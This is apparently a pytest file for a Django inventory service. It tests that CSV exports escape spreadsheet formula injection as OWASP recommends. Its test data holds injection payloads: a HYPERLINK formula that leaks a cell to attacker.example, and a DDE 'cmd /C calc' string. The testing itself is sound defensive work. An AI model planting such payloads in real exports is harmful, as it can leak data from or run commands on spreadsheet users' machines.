"""Every CSV the service writes neutralises cells a spreadsheet would run as formulas
(OWASP: prefix with ``'``), while the service's own figures stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.core.management import call_command

from catalog.services import product_create
from core.csv import neutralise
from ledger.services import stock_adjust, stock_restock

pytestmark = pytest.mark.django_db

# Every character OWASP lists, each starting a payload a spreadsheet would run.
LEADING = ["=", "+", "-", "@", "\t", "\r"]


def payload(lead: str) -> str:
    return f'{lead}HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


def export_rows(client, query: str = "") -> list[dict]:
    response = client.get(f"/api/v1/movements/export.csv{query}")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("lead", LEADING, ids=repr)
def test_export_neutralises_every_text_cell(auditor, lead):
    evil = payload(lead)
    product = product_create(sku=f"{lead}SKU", name=evil, price=Decimal("1.00"))
    stock_restock(product_id=product.id, quantity=5, actor_id=None, reference=evil, note=evil)
    stock_adjust(
        product_id=product.id, quantity=-3, reason="damaged", actor_id=None, reference=evil
    )

    rows = export_rows(auditor, f"?product={product.id}")

    assert len(rows) == 2
    for row in rows:
        assert row["sku"] == f"'{lead}SKU"
        assert row["reference"] == "'" + evil
        text = (row[column] for column in ("sku", "kind", "reason", "reference", "note"))
        assert not any(value.startswith(tuple(LEADING)) for value in text)
    assert rows[1]["note"] == "'" + evil
    # The service's own figures are numbers, not text: a negative quantity stays -3.
    adjustment = rows[0]
    assert (adjustment["kind"], adjustment["quantity"], adjustment["balance_after"]) == (
        "adjustment",
        "-3",
        "2",
    )


def test_export_through_the_api_neutralises_a_warehouse_reference(warehouse, auditor):
    product = warehouse.post(
        "/api/v1/products/",
        {"sku": "=cmd|' /C calc'!A0", "name": "@SUM(1+1)*cmd", "price": "1.00"},
        format="json",
    ).json()
    warehouse.post(
        f"/api/v1/products/{product['id']}/restocks/",
        {"quantity": 4, "reference": "+1+cmd", "note": "-2+3"},
        format="json",
    )
    (row,) = export_rows(auditor, f"?product={product['id']}")
    assert (row["sku"], row["reference"], row["note"]) == (
        "'=cmd|' /C calc'!A0",
        "'+1+cmd",
        "'-2+3",
    )
    assert row["quantity"] == "4"


def low_stock_csv() -> list[dict]:
    out = io.StringIO()
    call_command("low_stock_report", "--format", "csv", stdout=out)
    return list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))


@pytest.mark.parametrize("lead", LEADING, ids=repr)
def test_low_stock_csv_neutralises_sku_and_name(lead):
    evil = payload(lead)
    product_create(sku=f"{lead}LOW", name=evil, price=Decimal("1.00"), reorder_level=5)

    (row,) = low_stock_csv()

    assert (row["sku"], row["name"]) == (f"'{lead}LOW", "'" + evil)
    # Figures are numbers: the shortfall of 5 and the zero rate are written as they are.
    assert (row["on_hand"], row["reorder_level"], row["shortfall"]) == ("0", "5", "5")
    assert row["consumed_per_day"] == "0.00"


def test_a_carriage_return_inside_a_cell_cannot_start_a_row():
    product_create(sku="CR", name="Bolts\r=1+2", price=Decimal("1"), reorder_level=1)
    (row,) = low_stock_csv()
    assert row["name"] == "Bolts\r=1+2"


def test_low_stock_csv_leaves_plain_text_alone():
    product_create(
        sku="PLAIN-1", name="Plain name - with a dash", price=Decimal("1"), reorder_level=1
    )
    (row,) = low_stock_csv()
    assert (row["sku"], row["name"]) == ("PLAIN-1", "Plain name - with a dash")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("\t=1", "'\t=1"),
        ("\r\n=1", "'\r\n=1"),
        ("a=b", "a=b"),
        ("", ""),
        (-3, -3),
        (Decimal("-1.50"), Decimal("-1.50")),
        (None, None),
    ],
)
def test_neutralise_touches_only_text_that_starts_a_formula(value, written):
    assert neutralise(value) == written
